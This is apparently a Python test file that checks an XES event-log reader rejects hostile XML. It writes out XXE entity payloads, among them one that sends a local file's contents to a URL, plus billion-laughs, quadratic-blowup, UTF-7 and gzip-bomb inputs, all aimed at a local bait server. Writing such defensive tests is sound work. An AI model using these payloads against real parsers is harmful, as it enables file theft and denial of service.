"""Hostile XES files: refused or read as nothing, with no file and no address ever opened."""

import codecs
import gzip
import socket
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest

from overdeliver.tables.xes import read_xes
from overdeliver.vocabulary.errors import LimitExceeded, UnreadableFile

SECRET = "the secret of the house"
BODY = (
    '<log><trace><string key="concept:name" value="{}"/><event>'
    '<string key="concept:name" value="a"/>'
    '<date key="time:timestamp" value="2026-07-01T00:00:00Z"/></event></trace></log>'
)
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
DEEP = '<string key="k" value="v">' * 100_000

#: Name: (text with {file} and {url}, what it must be refused with).
REFUSED = {
    "entity from a file": ('<!DOCTYPE log [<!ENTITY x SYSTEM "{file}">]>' + BODY, UnreadableFile),
    "entity from the network": ('<!DOCTYPE log [<!ENTITY x SYSTEM "{url}">]>' + BODY,
                                UnreadableFile),
    "external type from a file": ('<!DOCTYPE log SYSTEM "{file}">' + BODY, UnreadableFile),
    "external type from the network": ('<!DOCTYPE log PUBLIC "-//X//Y" "{url}">' + BODY,
                                       UnreadableFile),
    "parameter entity": ('<!DOCTYPE log [<!ENTITY % p SYSTEM "{url}"> %p;]>' + BODY,
                         UnreadableFile),
    "parameter entity that sends a file": (
        '<!DOCTYPE log [<!ENTITY % f SYSTEM "{file}">'
        "<!ENTITY % s \"<!ENTITY &#37; t SYSTEM '{url}?%f;'>\">%s;%t;]>" + BODY, UnreadableFile),
    "billion laughs": ('<!DOCTYPE log [<!ENTITY l0 "ha">' + LAUGHS + "]>"
                       + BODY.replace("{}", "&l9;"), UnreadableFile),
    "quadratic growth": ('<!DOCTYPE log [<!ENTITY q "' + "q" * 50_000 + '">]>'
                         + BODY.replace("{}", "&q;" * 20_000), UnreadableFile),
    "unparsed entity": ('<!DOCTYPE log [<!NOTATION n SYSTEM "{url}">'
                        '<!ENTITY u SYSTEM "{file}" NDATA n>]>' + BODY, UnreadableFile),
    "declaration behind comments": ("<!-- x --><?pi y?>\n<!DOCTYPE log>" + BODY, UnreadableFile),
    "entity never declared": (BODY.replace("{}", "&x;"), UnreadableFile),
    "encoding that hides the declaration": ('<?xml version="1.0" encoding="UTF-7"?>+ADw-log+AD4-',
                                            UnreadableFile),
    "elements a hundred thousand deep": ("<log><trace><event>" + DEEP, LimitExceeded),
    "value of ten million letters": (BODY.replace("{}", "x" * 10_000_000), LimitExceeded),
    "comment of ten million letters": ("<log><!-- " + "x" * 10_000_000 + " --></log>",
                                       LimitExceeded),
    "element with a million attributes": (
        "<log><trace " + " ".join(f'a{n}="1"' for n in range(1_000_000)) + "/></log>",
        LimitExceeded),
    "trace with a thousand attributes": (
        "<log><trace>" + "".join(f'<string key="k{n}" value="1"/>' for n in range(1000)),
        LimitExceeded),
}  # fmt: skip

#: Read, but nothing that they point to is followed.
HARMLESS = {
    "inclusion": '<log xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{file}"/>'
    '<xi:include parse="text" href="{url}"/></log>',
    "style sheet": '<?xml-stylesheet type="text/xsl" href="{url}"?>' + BODY,
    "schema location": BODY.replace(
        "<log>",
        '<log xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="x {url}">',
    ),
}


class Watch:
    """What was opened while it is on, seen by an audit hook (hooks cannot be taken off again)."""

    def __init__(self) -> None:
        self.on = False
        self.seen: list[tuple[str, Any]] = []
        sys.addaudithook(self._note)

    def _note(self, event: str, args: tuple[Any, ...]) -> None:
        if self.on and (event == "open" or event.startswith(("socket.", "urllib.", "subprocess."))):
            self.seen.append((event, args[0]))


@pytest.fixture(scope="module")
def watch(tmp_path_factory: pytest.TempPathFactory) -> Watch:
    """Made after one honest reading, so that no module is loaded while it watches."""
    folder = tmp_path_factory.mktemp("honest")
    (folder / "log.xes").write_text(BODY)
    read_xes(folder / "log.xes", folder / "log.parquet")
    codecs.lookup("utf-7")
    return Watch()


@pytest.fixture
def bait(tmp_path: Path) -> Iterator[dict[str, str]]:
    """A file and an address that must not be touched."""
    (tmp_path / "secret.txt").write_text(SECRET)
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        yield {
            "{file}": (tmp_path / "secret.txt").as_uri(),
            "{url}": f"http://127.0.0.1:{server.getsockname()[1]}/x",
        }
        with pytest.raises(BlockingIOError):  # nobody called
            server.accept()


def filled(text: str, bait: dict[str, str]) -> str:
    for name, value in bait.items():
        text = text.replace(name, value)
    return text


def attack(tmp_path: Path, data: bytes, watch: Watch) -> Path:
    source, target = tmp_path / "log.xes", tmp_path / "log.parquet"
    source.write_bytes(data)
    watch.seen, watch.on = [], True
    try:
        read_xes(source, target)
    finally:
        watch.on = False
        own = (str(source), str(target.with_name("log.parquet.part")), "overdeliver-")
        assert [seen for seen in watch.seen if not any(name in str(seen) for name in own)] == []
    return target


@pytest.mark.timeout(20)
@pytest.mark.parametrize("name", REFUSED)
def test_refused_at_once(tmp_path: Path, bait: dict[str, str], watch: Watch, name: str) -> None:
    text, error = REFUSED[name]
    with pytest.raises(error, match=r"log\.xes") as refusal:
        attack(tmp_path, filled(text, bait).encode(), watch)
    assert SECRET not in str(refusal.value)
    assert "\n" not in str(refusal.value)
    assert not (tmp_path / "log.parquet").exists()


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-8-sig"])
def test_a_declaration_is_seen_in_any_encoding(tmp_path: Path, watch: Watch, encoding: str) -> None:
    text = ("\ufeff" if encoding == "utf-16-be" else "") + "<!DOCTYPE log><log/>"
    with pytest.raises(UnreadableFile, match="document type"):
        attack(tmp_path, text.encode(encoding), watch)


@pytest.mark.parametrize("name", HARMLESS)
def test_links_are_not_followed(
    tmp_path: Path, bait: dict[str, str], watch: Watch, name: str
) -> None:
    target = attack(tmp_path, filled(HARMLESS[name], bait).encode(), watch)
    assert SECRET not in str(pq.read_table(target).to_pylist())


@pytest.mark.timeout(20)
def test_a_gzip_bomb_and_a_packed_declaration_are_stopped(tmp_path: Path, watch: Watch) -> None:
    with pytest.raises(LimitExceeded, match="archive bomb"):
        attack(tmp_path, gzip.compress(b"<log>" + b" " * 200_000_000), watch)
    with pytest.raises(UnreadableFile, match="document type"):
        attack(tmp_path, gzip.compress(b"<!DOCTYPE log><log/>"), watch)
